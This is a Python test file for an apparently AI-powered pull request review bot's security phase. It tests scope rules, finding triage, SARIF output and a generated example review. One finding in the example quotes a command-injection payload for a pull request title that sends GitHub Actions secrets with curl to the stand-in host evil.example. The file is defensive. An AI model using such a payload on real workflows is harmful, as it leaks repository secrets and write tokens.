"""The security phase's parts on their own: the config keys, which files are in scope, the
findings' shape and triage, and the SARIF log (checked against the official SARIF 2.1.0 JSON
Schema, the same check the fake GitHub's code scanning makes)."""

from __future__ import annotations

import difflib
import os
from pathlib import Path
from typing import Any

import pytest

from bot.answers.security_findings import CheckReply, SecurityFinding, SecurityReply, triage
from bot.config import DEFAULT_SECURITY_PATHS, Config, ConfigError
from bot.config_files import merge, parse_operator_config, parse_repo_config
from bot.github import sarif
from bot.github.pull_reads import ChangedFile
from bot.prompts.security_scope import right_side, scope
from bot.safety import neutralise
from tests.fakes.fixtures import require, sarif_schema_path
from tests.fakes.github_scanning import schema_errors


def changed(path: str, before: str, after: str, status: str = "modified") -> ChangedFile:
    """A changed file with the patch ``git diff`` would show (whole files: one hunk)."""
    old, new = before.splitlines(), after.splitlines()
    lines = list(difflib.unified_diff(old, new, lineterm="", n=3))[2:]
    return ChangedFile(path, status, sum(1 for x in lines if x.startswith("+")),
                       sum(1 for x in lines if x.startswith("-")), "0" * 40, "\n".join(lines))


def finding(**fields: Any) -> SecurityFinding:
    base = {"path": "app/auth/session.py", "line": 11, "severity": "high", "cwe": "CWE-384", "title": "Session fixation",
            "scenario": "An attacker sets the victim's session id.", "fix": "Issue a new id at sign-in.", "confidence": 0.9}
    return SecurityFinding.model_validate({**base, **fields})


# -- config -------------------------------------------------------------------------------------


def test_security_paths_have_defaults_a_repository_extends_but_cannot_empty() -> None:
    operator = Config()
    assert operator.triggers.security_paths == list(DEFAULT_SECURITY_PATHS)
    merged = merge(operator, parse_repo_config("triggers: {security_paths: ['billing/**'], review_on: [opened]}\n"))
    assert merged.triggers.security_paths == [*DEFAULT_SECURITY_PATHS, "billing/**"]  # added, not replaced
    assert merged.triggers.review_on == ["opened"] and merged.triggers.security_on == operator.triggers.security_on
    assert merge(operator, parse_repo_config("triggers: {security_on: [opened]}\n")).triggers.security_on == ["opened"]
    with pytest.raises(ConfigError, match=r"triggers\.security_paths = list: List should have at least 1 item"):
        parse_repo_config("triggers: {security_paths: []}\n")
    with pytest.raises(ConfigError, match="a pattern may not be blank"):
        parse_repo_config("triggers: {security_paths: ['  ']}\n")
    # the operator may replace the defaults (the models and their triggers are theirs), not empty them
    own = parse_operator_config("triggers: {security_paths: ['src/**']}\n")
    assert own.triggers.security_paths == ["src/**"]
    with pytest.raises(ConfigError, match="security_paths"):
        parse_operator_config("triggers: {security_paths: []}\n")


def test_the_security_section_merges_key_by_key() -> None:
    operator = parse_operator_config("security: {min_confidence: 0.8, verify_profile: massive-context}\n")
    merged = merge(operator, parse_repo_config("security: {min_confidence: 0.5}\n"))
    assert (merged.security.min_confidence, merged.security.verify_profile) == (0.5, "massive-context")
    assert merge(operator, parse_repo_config("security: {verify_profile: null}\n")).security.verify_profile is None
    with pytest.raises(ConfigError, match=r"security\.min_confidence = 1\.5"):
        parse_repo_config("security: {min_confidence: 1.5}\n")
    assert Config().security.min_confidence == 0.7 and Config().security.verify_profile == "high-throughput"


# -- scope --------------------------------------------------------------------------------------


@pytest.mark.parametrize("path, pattern", [
    (".github/workflows/release.yml", ".github/workflows/**"), (".GitHub/Workflows/ci.yml", ".github/workflows/**"),
    (".github/actions/setup/action.yml", ".github/actions/**"), ("docker/Dockerfile.prod", "Dockerfile*"),
    ("web/package-lock.json", "package-lock.json"), ("requirements-dev.txt", "requirements*.txt"),
    ("go.sum", "go.sum"), ("app/auth/models.py", "*auth*"), ("src/OAuthCallback.ts", "*auth*"),
    ("lib/crypto/aes.go", "*crypt*"), ("db/sql_queries.py", "*sql*"), ("api/uploads.py", "*upload*"),
    ("core/serializers.py", "*serializ*"), ("certs/server.pem", "*.pem"), ("src/login_form.tsx", "*login*"),
])
def test_default_security_paths_cover_what_the_issue_names(path: str, pattern: str) -> None:
    [sensitive] = scope([changed(path, "a\n", "b\n")], DEFAULT_SECURITY_PATHS).sensitive
    assert sensitive.pattern == pattern


@pytest.mark.parametrize("path", ["docs/usage.md", "README.md", "src/models.py", "tests/test_views.py", "app/views.py"])
def test_ordinary_paths_are_not_security_paths(path: str) -> None:
    found = scope([changed(path, "a\n", "b\n")], DEFAULT_SECURITY_PATHS)
    assert found.sensitive == [] and [f.path for f in found.others] == [path]


def test_connected_files_are_those_the_diff_ties_to_a_sensitive_one() -> None:
    session = changed("app/auth/session.py", "def start(user):\n    return 1\n", "def start_session(user, token):\n    return token\n")
    caller = changed("app/views.py", "x = 1\n", "sid = start_session(user, request.cookies['sid'])\n")
    importer = changed("app/admin.py", "import os\n", "import os\nfrom app.auth import session\n")
    unrelated = changed("app/reports.py", "a = 1\n", "a = 2\n")
    generic = changed("app/utils.py", "a = 1\n", "a = 2\n")  # named by the workflow, but "utils" is everywhere
    workflow = changed(".github/workflows/ci.yml", "on: push\n", "on: push\nrun: ./scripts/deploy.sh && utils\n")
    deploy = changed("scripts/deploy.sh", "echo\n", "echo deploy\n")

    found = scope([session, caller, importer, unrelated, generic, workflow, deploy], DEFAULT_SECURITY_PATHS)

    assert [s.file.path for s in found.sensitive] == ["app/auth/session.py", ".github/workflows/ci.yml"]
    assert [(c.file.path, c.why) for c in found.connected] == [
        ("app/views.py", "its diff uses `start_session` of `app/auth/session.py`"),
        ("app/admin.py", "its diff uses `session` of `app/auth/session.py`"),
        ("scripts/deploy.sh", "the diff of `.github/workflows/ci.yml` names it"),
    ]
    assert [f.path for f in found.others] == ["app/reports.py", "app/utils.py"]
    # /security with no security path touched: every changed file is in scope
    everything = scope([unrelated, generic], DEFAULT_SECURITY_PATHS, everything=True)
    assert [(s.file.path, s.pattern) for s in everything.sensitive] == [("app/reports.py", ""), ("app/utils.py", "")]
    assert scope([unrelated], DEFAULT_SECURITY_PATHS).sensitive == []


def test_a_file_renamed_away_from_a_security_path_is_still_in_scope() -> None:
    moved = ChangedFile("app/people.py", "renamed", 0, 0, "0" * 40, None, previous_path="app/auth/people.py")
    [sensitive] = scope([moved], DEFAULT_SECURITY_PATHS).sensitive
    assert sensitive.pattern == "*auth*"


def test_right_side_lines_of_a_patch() -> None:
    patch = "@@ -1,3 +1,3 @@\n a\n-b\n+B\n c\n@@ -10,1 +10,2 @@\n j\n+k"
    assert right_side(patch) == {1: "a", 2: "B", 3: "c", 10: "j", 11: "k"}


# -- findings -----------------------------------------------------------------------------------


def test_findings_name_a_cwe_and_are_triaged_by_confidence_and_advice() -> None:
    assert [finding(cwe=c).cwe for c in ("CWE-89", "cwe 89", "89", 89, "CWE_0089")] == ["CWE-89"] * 5
    with pytest.raises(ValueError, match="must be a CWE id"):
        finding(cwe="SQL injection")
    with pytest.raises(ValueError, match="confidence"):
        finding(confidence=1.2)
    reply = SecurityReply.model_validate({"summary": "s", "findings": [
        finding(severity="low", confidence=0.95).model_dump(),
        finding(path="a.py", severity="critical", confidence=0.7).model_dump(),  # at the threshold: posted
        finding(path="b.py", confidence=0.69).model_dump(),
        finding(path="c.py", confidence=0.99, hardening=True).model_dump(),
        finding(path="a.py", severity="critical", confidence=0.8).model_dump(),  # the same weakness on the line again
    ]})
    sorted_ = triage(reply.findings, 0.7)
    assert [(f.path, f.severity) for f in sorted_.posted] == [("a.py", "critical"), ("app/auth/session.py", "low")]
    assert [f.path for f in sorted_.low_confidence] == ["b.py"] and [f.path for f in sorted_.hardening] == ["c.py"]

    check = CheckReply.model_validate({"checks": [{"id": 1, "real": False, "reason": "validated above"},
                                                  {"id": 7, "real": False}]})  # no such finding: ignored
    sorted_.drop({c.id: c for c in check.checks})
    assert [f.path for f in sorted_.posted] == ["app/auth/session.py"]  # no verdict on 2: it stays
    assert [(f.path, why) for f, why in sorted_.dropped] == [("a.py", "validated above")]
    assert sorted_.table() == [
        {"severity": "critical", "posted": 0, "low_confidence": 0, "hardening": 0, "dropped": 1},
        {"severity": "high", "posted": 0, "low_confidence": 1, "hardening": 1, "dropped": 0},
        {"severity": "medium", "posted": 0, "low_confidence": 0, "hardening": 0, "dropped": 0},
        {"severity": "low", "posted": 1, "low_confidence": 0, "hardening": 0, "dropped": 0},
    ]


# -- SARIF --------------------------------------------------------------------------------------


HEAD = ["import secrets", "", "def start_session(user, token=None):", "    token = token or secrets.token_urlsafe(32)"]


def lines_of(text: list[str]) -> Any:
    table = {(path, n): line for path in ("app/auth/session.py",) for n, line in enumerate(text, 1)}
    return lambda path, line: table.get((path, line))


def test_the_sarif_log_validates_against_the_official_schema() -> None:
    require(sarif_schema_path(), "the SARIF 2.1.0 JSON Schema")
    findings = [finding(line=4, severity="critical"), finding(line=4, cwe="CWE-330", severity="low"),
                finding(line=None, cwe="CWE-613", severity="medium", title="Sessions never expire"),
                finding(line=3, severity="medium", title="Fixation again", scenario="Token: ghp_" + "a" * 36)]
    document = sarif.build(findings, lines_of(HEAD), clean=lambda text: neutralise(text, []))

    assert schema_errors(document) == []
    [run] = document["runs"]
    assert [(r["id"], r["properties"]["security-severity"], r["defaultConfiguration"]["level"])
            for r in run["tool"]["driver"]["rules"]] == [
        ("CWE-330", "2.0", "note"), ("CWE-384", "9.5", "error"), ("CWE-613", "5.5", "warning")]
    assert run["tool"]["driver"]["rules"][1]["name"] == "Session Fixation"
    assert [(r["ruleId"], r["ruleIndex"], r["level"], r["locations"][0]["physicalLocation"]["region"]["startLine"])
            for r in run["results"]] == [("CWE-384", 1, "error", 4), ("CWE-330", 0, "note", 4),
                                         ("CWE-613", 2, "warning", 1), ("CWE-384", 1, "warning", 3)]
    assert "ghp_aaaa" not in str(document)  # a secret a model quoted is redacted as in a post
    assert run["automationDetails"] == {"id": "model-routing/security/"}
    assert sarif.build([], lines_of(HEAD))["runs"][0]["results"] == []  # an empty analysis, still valid
    assert schema_errors(sarif.build([], lines_of(HEAD))) == []

    # the check can fail: a log the schema refuses is reported
    document["runs"][0]["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] = 0
    assert any("startLine" in e or "region" in e for e in schema_errors(document))


def test_fingerprints_follow_the_flagged_line_not_its_number_or_the_wording() -> None:
    first = sarif.fingerprints([finding(line=4)], lines_of(HEAD))
    moved = sarif.fingerprints([finding(line=6, title="Fixation", scenario="reworded", fix="other")],
                               lines_of(["# a", "# b", *HEAD]))
    assert first == moved and first[0].endswith(":1")
    assert sarif.fingerprints([finding(line=4, cwe="CWE-330")], lines_of(HEAD)) != first  # another weakness
    twice = sarif.fingerprints([finding(line=4), finding(line=4, title="again")], lines_of(HEAD))
    assert [f.rsplit(":", 1)[1] for f in twice] == ["1", "2"] and twice[0] == first[0]
    unknown = sarif.fingerprints([finding(path="x.py", line=9)], lines_of(HEAD))  # line not read: by number
    assert unknown != sarif.fingerprints([finding(path="x.py", line=10)], lines_of(HEAD))


def test_pack_is_gzip_then_base64() -> None:
    import base64
    import gzip
    import json

    document = sarif.build([finding()], lines_of(HEAD))
    assert json.loads(gzip.decompress(base64.b64decode(sarif.pack(document)))) == document


# -- the example in the docs --------------------------------------------------------------------

EXAMPLE = Path(__file__).resolve().parent.parent / "docs" / "security-review-example.md"
SHA = "3f9d2c41b7e0a5d6c8f1e2b3a4c5d6e7f8091a2b"


def example_review() -> str:
    """A security review as the bot posts it (body, then its inline comments), rendered by the
    handler's own code from a fixed answer, with the text neutralised as every post is."""
    from bot.answers.security_findings import FindingCheck
    from bot.github.pull_reads import FileList, PullInfo
    from bot.llm.result import ModelResult
    from bot.prompts.security_prompt import SecurityCoverage, SecurityInput
    from handlers.security import review_body

    files = [changed(".github/workflows/ci.yml", "on:\n  pull_request:\njobs:\n  test:\n    steps:\n      - run: pytest\n",
                     "on:\n  pull_request_target:\njobs:\n  test:\n    steps:\n"
                     "      - run: echo \"${{ github.event.pull_request.title }}\"\n      - run: pytest\n"),
             changed("app/auth/session.py", "def start_session(user):\n    token = new_token()\n    return token\n",
                     "def start_session(user, token=None):\n    token = token or new_token()\n    return token\n"),
             changed("app/views.py", "sid = start_session(user)\n", "sid = start_session(user, request.cookies.get('sid'))\n")]
    found = scope(files, DEFAULT_SECURITY_PATHS)
    pull = PullInfo(42, "Keep the session across sign-in", "", "alice", False, SHA, "sessions", "acme/portal", "0" * 40,
                    "main", "acme/portal", 6, 4, 3)
    coverage = SecurityCoverage(files_changed=3, in_scope=2, in_scope_read=2, lines_read=7, head_files=1, connected=1,
                                connected_read=1, policy="SECURITY.md", tokens=3_412, window=200_000, reserve=16_000)
    inp = SecurityInput(pull, FileList(files), found, [], coverage, "high-reasoning", {})
    findings = [
        finding(path=".github/workflows/ci.yml", line=6, severity="high", cwe="CWE-78",
                title="Script injection from the pull request title", confidence=0.92,
                scenario="Anyone who can open a pull request sets its title to `\"; curl -d @$GITHUB_ENV evil.example #`. "
                         "The workflow runs on `pull_request_target`, so the title is pasted into a shell step that "
                         "runs with the base repository's secrets and a write token.",
                fix="Pass the title through an environment variable (`env: TITLE: ${{ github.event.pull_request.title }}`) "
                    "and quote `\"$TITLE\"`; better, go back to `pull_request`."),
        finding(path="app/auth/session.py", line=2, severity="critical", cwe="CWE-384", confidence=0.95,
                scenario="An attacker plants a `sid` cookie in the victim's browser (a sibling subdomain can), the victim "
                         "signs in, and `start_session` keeps the attacker's token: the attacker is now signed in as the victim.",
                fix="Always issue a fresh token at sign-in; never accept one from the request."),
        finding(path="app/auth/session.py", line=None, severity="medium", cwe="CWE-613", title="Sessions never expire",
                confidence=0.8, scenario="A token stolen once works for ever.", fix="Check `SESSION_TTL` on every read."),
        finding(path="app/views.py", line=1, severity="high", cwe="CWE-352", title="CSRF on sign-in", confidence=0.75,
                scenario="A page on another site posts the sign-in form.", fix="Require the CSRF token."),
        finding(path="app/views.py", line=1, severity="medium", cwe="CWE-20", title="Unchecked cookie", confidence=0.4),
        finding(severity="low", cwe="CWE-330", title="Longer tokens", confidence=0.9, hardening=True),
    ]
    sorted_ = triage(findings, 0.7)
    sorted_.drop({3: FindingCheck(id=3, real=False, reason="sign-in is a POST that checks the CSRF token in `app/forms.py`")})
    calls = [ModelResult("", None, "security", "high-reasoning", "openai/o3-pro",
                         "phase security -> high-reasoning (phases); first model of high-reasoning", 3_412, 1_180, 0.1627, 41.3),
             ModelResult("", None, "security", "high-throughput", "gemini/gemini-3-flash-preview",
                         "false-positive check of 4 findings (security.verify_profile: high-throughput); first model of "
                         "high-throughput", 1_406, 212, 0.0013, 2.1)]
    scanning = ("3 results uploaded as SARIF 2.1.0 for `refs/pull/42/head` at 3f9d2c4; "
                "upload `6c1f0e9a-51d2-4b8e-9f3a-0d7c2e4b8a11`.")
    body, comments = review_body(inp, "The change lets a client choose its session token and runs pull request "
                                      "titles in a privileged workflow.", sorted_, calls, "`pull_request.opened`",
                                 scanning, "", 0.7)
    inline = "".join(f"\n### Inline on `{c['path']}` line {c['line']}\n\n{neutralise(c['body'], [])}\n" for c in comments)
    return ("<!-- Generated by tests/test_security_parts.py (MODEL_ROUTING_WRITE_EXAMPLES=1 rewrites it). -->\n"
            "# Example: a security review as the bot posts it\n\n"
            "The review's body:\n\n" + neutralise(body, []).strip() + "\n\n## Its inline comments\n" + inline)


def test_the_example_review_in_docs_is_what_the_bot_posts() -> None:
    text = example_review()
    if os.environ.get("MODEL_ROUTING_WRITE_EXAMPLES") == "1":
        EXAMPLE.write_text(text)
    assert EXAMPLE.read_text() == text, "docs/security-review-example.md is stale: run with MODEL_ROUTING_WRITE_EXAMPLES=1"


def test_the_readme_shows_the_top_of_the_example() -> None:
    readme = (EXAMPLE.parent.parent / "README.md").read_text()
    shown = readme.split("[docs/security-review-example.md](docs/security-review-example.md). Its top:", 1)[1]
    block = shown.split("```markdown\n", 1)[1].split("```", 1)[0]
    assert block.count("\n") > 5 and block in EXAMPLE.read_text()
